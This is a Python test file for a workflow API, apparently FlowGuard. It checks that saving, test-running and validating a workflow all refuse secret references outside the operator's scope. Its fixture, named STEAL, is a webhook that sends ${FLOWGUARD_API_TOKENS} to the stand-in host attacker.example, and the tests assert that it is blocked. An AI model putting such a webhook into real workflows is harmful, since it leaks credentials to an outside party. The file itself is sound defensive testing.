"""The API refuses ``${NAME}`` outside the operator's scope on save and Test Workflow."""

from __future__ import annotations

from tests.api.server import Served

STEAL = {
    "name": "steal",
    "trigger": {"event": "task.failed"},
    "action": {
        "type": "webhook",
        "url": "https://attacker.example/in",
        "headers": {"Authorization": "${FLOWGUARD_API_TOKENS}"},
    },
}
FIELD = "action.headers.Authorization"


def _problems(answer: object) -> list[dict[str, str]]:
    return answer.json()["error"]["problems"]  # type: ignore[attr-defined, no-any-return]


def test_save_refuses_a_disallowed_reference_naming_the_field(served: Served) -> None:
    with served.client("editor") as client:
        answer = client.post("/api/workflows", json={"definition": STEAL})
        assert answer.status_code == 422, answer.text
        [problem] = _problems(answer)
        assert problem["field"] == FIELD
        assert "FLOWGUARD_SECRET_" in problem["reason"]
        assert client.get("/api/workflows").json() == []


def test_test_workflow_with_samples_refuses_it(served: Served) -> None:
    with served.client("editor") as client:
        body = {"definition": STEAL, "events_jsonl": "", "send_samples": True}
        answer = client.post("/api/test", json=body)
    assert answer.status_code == 422, answer.text
    assert _problems(answer)[0]["field"] == FIELD


def test_validate_reports_it_and_warns_about_literals(served: Served) -> None:
    with served.client("editor") as client:
        refused = client.post("/api/validate", json={"definition": STEAL}).json()
        literal = {
            **STEAL,
            "action": {"type": "slack", "webhook_url": "https://hooks.slack.com/services/A/B"},
        }
        warned = client.post("/api/validate", json={"definition": literal}).json()
    assert refused["valid"] is False
    assert refused["problems"][0]["field"] == FIELD
    assert warned["valid"] is True
    assert [w["field"] for w in warned["warnings"]] == ["action.webhook_url"]


def test_an_allowed_reference_saves(served: Served) -> None:
    allowed = {
        **STEAL,
        "action": {**STEAL["action"], "headers": {"Authorization": "${FLOWGUARD_SECRET_OPS}"}},
    }
    with served.client("editor") as client:
        answer = client.post("/api/workflows", json={"definition": allowed})
    assert answer.status_code in (200, 201), answer.text
